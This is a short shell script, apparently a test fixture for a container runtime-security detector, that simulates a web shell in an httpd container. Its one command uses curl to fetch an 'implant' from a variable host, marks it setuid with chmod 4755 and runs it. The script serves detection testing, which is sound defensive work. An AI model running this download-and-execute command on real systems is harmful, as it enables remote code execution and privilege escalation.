#!/bin/sh
# malicious: a web shell in a container downloads a binary, makes it setuid and runs it (httpd -> sh -c curl; chmod 4755)
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app httpd "curl -s -o /tmp/.d $URL/implant && chmod 4755 /tmp/.d && /tmp/.d"
